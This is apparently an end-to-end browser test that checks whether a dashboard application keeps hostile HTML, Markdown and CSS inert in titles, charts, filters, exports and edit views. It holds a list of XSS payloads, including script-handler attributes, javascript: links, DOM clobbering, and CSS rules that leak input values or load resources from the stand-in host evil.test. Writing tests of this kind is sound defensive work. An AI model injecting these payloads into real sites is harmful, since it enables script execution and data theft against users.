import { readFileSync } from 'node:fs'

import { callApi } from '../support/api'
import { drawn, frame, notes } from '../support/dashboardPage'
import { chart, makeDashboard, nativeFilter } from '../support/dashboards'
import { expect, NOWHERE, type Page, test } from '../support/fixtures'

test.use({ apart: 'dashboard-hostile', start: NOWHERE })

const IMG = '"><img src=x onerror=alert(1)>'
const SVG = '<svg onload=alert(1)>'

/** Every violation of the content policy from here on, as the page reports it. */
const watchPolicy = async (page: Page): Promise<string[]> => {
  const violations: string[] = []
  await page.exposeFunction('violated', (what: string) => void violations.push(what))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      ;(globalThis as unknown as { violated: (what: string) => void }).violated(`${violatedDirective} ${blockedURI}`)
    })
  })
  return violations
}

/** No element of the payloads came to life, wherever the page shows them. */
const harmless = async (page: Page): Promise<void> => {
  await expect(page.locator('[onload], [onerror], [style*="evil.test"], base, object, embed')).toHaveCount(0)
  // a text may hold a picture of its own server
  await expect(page.locator('img[src="x"]:not(.db-markdown *)')).toHaveCount(0)
  await expect(page.locator('iframe:not([src^="/"]), meta[http-equiv="refresh" i], link[rel="prefetch"]')).toHaveCount(
    0,
  )
}

/** Texts that other tools ran as code, were led astray by, or called home with. */
const TEXTS: readonly string[] = [
  `<div>${SVG}</div>`,
  '<img src=x onerror=alert(1)>',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#9;script:alert(1)) [d](&#106;avascript:alert(1)) [e](data:text/html,<script>alert(1)</script>) [f](vbscript:alert(1))',
  '<a href="java\tscript:alert(1)">g</a> <a href="&#106;avascript:alert(1)">h</a> <a href=" javascript:alert(1)">i</a>',
  '<a href="//evil.test" target=_blank>away</a> <a href="https://evil.test/x" target=_blank>far</a>',
  '<video src=x onerror=alert(1)></video><video poster=javascript:alert(1)></video><audio src="https://evil.test/a"></audio>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<style>@import "http://evil.test/a.css"; body { display: none }</style><p style="background:url(http://evil.test/b.png)">styled</p>',
  '<iframe src="javascript:alert(1)"></iframe><object data="data:text/html,x"></object><embed src="https://evil.test/e"><form action="https://evil.test/f"><input name=attributes></form><base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/"><link rel=prefetch href="https://evil.test/p">',
  '<a id=config></a><img name=getElementById><form id=x><input name=attributes></form><img name=querySelector><a id=location href="https://evil.test/l"></a>',
  '![x](http://evil.test/picture.png "t") <picture><source srcset="https://evil.test/s.png"><img src="https://evil.test/i.png"></picture><svg><image href="https://evil.test/v.png"/></svg>',
]
const CSS = `</style><script>alert(1)</script> @import 'http://evil.test/a.css'; .db-board { width: expression(alert(1)); background: url(http://evil.test/c.png) } input[value^="a"] { background: url(//evil.test/leak) } @font-face { font-family: x; src: url(http://evil.test/f.woff) }`

test('texts, styles, names and values that are HTML stay text in every place [S120] [S121] [S122] [S123] [S124] [S125] [S126] [S127] [S128] [S129] [S132] [S133]', async ({
  page,
  server,
  problems,
}) => {
  const violations = await watchPolicy(page)
  const dataset = await callApi<{ id: number }>(page, 'POST', '/api/v1/dataset/', {
    database: 1,
    schema: 'main',
    table_name: `${IMG} data`,
    sql: `SELECT * FROM (VALUES ('${IMG}', 3), ('${SVG}', 5), ('plain', 2)) AS v("${SVG.replaceAll('"', '""')}", n)`,
  })
  const form = { datasource: `${dataset.id}__table` }
  const make = async (name: string, vizType: string, params: object) => {
    const body = {
      slice_name: name,
      viz_type: vizType,
      params: JSON.stringify({ ...form, viz_type: vizType, ...params }),
      datasource_id: dataset.id,
      datasource_type: 'table',
      description: IMG,
    }
    return (await callApi<{ id: number }>(page, 'POST', '/api/v1/chart/', body)).id
  }
  const metric = { expressionType: 'SQL', sqlExpression: 'SUM(n)', label: IMG, optionName: 'm' }
  const bars = await make(`${IMG} bars`, 'echarts_timeseries_bar', { x_axis: SVG, metrics: [metric], groupby: [SVG] })
  const pie = await make(`${SVG} pie`, 'pie', { groupby: [SVG], metric })
  const table = await make(`${SVG} table`, 'table', { query_mode: 'aggregate', groupby: [SVG], metrics: [metric] })
  const number = await make(`${IMG} number`, 'big_number_total', { metric, subheader: SVG })
  const filter = nativeFilter(IMG, dataset.id, { id: 'NATIVE_FILTER-hostile', description: SVG }, SVG)
  const id = await makeDashboard(
    page,
    `${IMG} board`,
    [
      ['ROOT_ID', 'ROOT', ['TABS-top']],
      ['TABS-top', 'TABS', ['TAB-one', 'TAB-two']],
      ['TAB-one', 'TAB', ['HEADER-1', 'ROW-1', 'ROW-2', 'ROW-3'], { text: IMG }],
      ['TAB-two', 'TAB', [], { text: SVG }],
      ['HEADER-1', 'HEADER', [], { text: IMG }],
      ['ROW-1', 'ROW', ['CHART-1', 'CHART-2']],
      ['ROW-2', 'ROW', ['CHART-3', 'CHART-4']],
      ['ROW-3', 'ROW', ['MARKDOWN-1']],
      chart('CHART-1', bars, `${IMG} bars`, 6, 40),
      chart('CHART-2', pie, `${SVG} pie`, 6, 40),
      chart('CHART-3', table, `${SVG} table`, 6, 40),
      chart('CHART-4', number, `${IMG} number`, 6, 40),
      ['MARKDOWN-1', 'MARKDOWN', [], { code: TEXTS.join('\n\n'), width: 12, height: 100 }],
    ],
    { css: CSS, metadata: { native_filter_configuration: [filter], label_colors: { [IMG]: SVG } } },
  )
  await page.goto(`${server.url}/superset/dashboard/${id}/`)
  await expect(page.getByRole('heading', { level: 1, name: `${IMG} board` })).toBeVisible()
  for (const name of [`${IMG} bars`, `${SVG} pie`, `${SVG} table`, `${IMG} number`]) await drawn(page, name)
  await expect.poll(() => page.title()).toContain(IMG)
  await harmless(page)

  // links lead nowhere they should not, and those that lead away give nothing along
  const text = page.locator('.db-markdown')
  await expect(text.getByText('away')).toBeVisible()
  const links = await text
    .locator('a')
    .evaluateAll((all) =>
      all.map((one) => ({ href: one.getAttribute('href'), rel: one.getAttribute('rel'), id: one.id })),
    )
  expect(links.length).toBeGreaterThan(8)
  for (const { href, rel, id: name } of links) {
    if (href !== null) expect(href).toMatch(/^(https?:)?\/\/|^\//)
    if (href !== null) expect(rel).toContain('noopener')
    expect(name).toBe('')
  }
  const styles = await text.locator('[style]').evaluateAll((all) => all.map((one) => one.getAttribute('style') ?? ''))
  for (const style of styles) expect(style).not.toMatch(/url|position|expression|import|behavior|fixed|z-index/i)
  await expect(text.locator('style, script, form, input, audio, math, svg, [name]')).toHaveCount(0)
  expect(await page.evaluate(() => typeof document.getElementById)).toBe('function')

  // under the pointer: marks, cells, heads, tabs
  for (const name of [`${IMG} bars`, `${SVG} pie`]) {
    const drawing = frame(page, name).getByRole('figure').locator('[tabindex="0"]').first()
    await drawing.hover()
    await drawing.focus()
    await page.keyboard.press('ArrowRight')
    await expect(frame(page, name)).toContainText(/<svg onload|onerror|plain/)
    await harmless(page)
  }
  await frame(page, `${SVG} table`).getByRole('columnheader').first().hover()
  await frame(page, `${SVG} table`).getByText(IMG, { exact: true }).first().hover()
  await page.getByRole('tab', { name: IMG, exact: true }).hover()
  await harmless(page)

  // a filter on a hostile value, a cross-filter on a hostile mark
  const bar = page.getByRole('region', { name: 'Filters' })
  await bar.getByRole('button', { name: `${IMG}: all` }).click()
  await page.getByRole('option', { name: IMG, exact: true }).click()
  await page.keyboard.press('Escape')
  await bar.getByRole('button', { name: 'Apply filters' }).click()
  await expect(frame(page, `${SVG} table`).getByRole('row')).toHaveCount(2)
  await harmless(page)
  await frame(page, `${SVG} pie`)
    .getByRole('button', { name: /^Options for/ })
    .click()
  await page.getByRole('menuitem', { name: 'View query' }).click()
  await expect(page.getByRole('dialog', { name: 'View query' }).locator('pre').first()).toContainText('onerror')
  await page.keyboard.press('Escape')
  await frame(page, `${SVG} table`)
    .getByRole('button', { name: /^Options for/ })
    .click()
  // the menu of the pie may still be fading
  await page
    .getByRole('menu', { name: `Options for ${SVG} table` })
    .getByRole('menuitem', { name: 'Download' })
    .click()
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Rows as CSV' }).click()
  expect((await download).suggestedFilename()).not.toMatch(/[<>"/\\|?*]/)
  expect(readFileSync(await (await download).path(), 'utf8')).toContain('onerror')
  await page.keyboard.press('Escape')

  // editing shows the same names in tools, steps, dialogs and the history
  await page.getByRole('button', { name: 'Edit dashboard' }).click()
  await expect(page.getByRole('textbox', { name: 'Dashboard title' })).toHaveValue(`${IMG} board`)
  await page.getByRole('button', { name: `Move ${IMG} number` }).hover()
  await page.getByRole('button', { name: 'Edit text' }).click()
  await expect(page.getByRole('textbox', { name: 'Text in Markdown' })).toHaveValue(TEXTS.join('\n\n'))
  await page.getByRole('textbox', { name: 'Text in Markdown' }).fill(`${TEXTS.join('\n\n')}\n\nOne **more**`)
  await harmless(page)
  await page.getByRole('button', { name: 'Done', exact: true }).click()
  await page.getByRole('textbox', { name: 'Dashboard title' }).fill(`${SVG} board`)
  await page.getByRole('textbox', { name: 'Dashboard title' }).press('Enter')
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  await expect(page.getByRole('button', { name: 'Edit dashboard' })).toBeVisible()
  await harmless(page)
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Dashboards' }).click()
  const list = page.getByRole('grid', { name: 'Dashboards' })
  await expect(list.getByRole('link', { name: `${SVG} board` })).toBeVisible()
  await list.getByRole('button', { name: `Delete ${SVG} board` }).click()
  await expect(notes(page).getByText(`Deleted: ${SVG} board`)).toBeVisible()
  await harmless(page)
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'History' }).click()
  await expect(page.getByRole('list', { name: 'Events' })).toContainText(SVG)
  await harmless(page)
  expect(problems.outside).toEqual([])
  // a picture that is not there is noted by the browser itself
  expect(problems.console.filter((one) => !one.startsWith('Failed to load resource'))).toEqual([])
  expect(violations).toEqual([])
})
